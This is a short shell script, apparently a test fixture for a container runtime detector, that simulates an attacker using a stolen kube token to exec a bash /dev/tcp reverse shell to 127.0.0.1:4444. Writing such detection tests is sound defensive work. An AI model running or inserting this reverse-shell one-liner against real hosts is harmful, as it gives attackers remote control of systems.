#!/bin/sh
# malicious: an attacker with a stolen kube token runs a piped exec (no tty) that opens a bash /dev/tcp reverse shell to 127.0.0.1:4444
# container
. "$(dirname "$0")/../../lib.sh"
ctr_exec bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' </dev/null
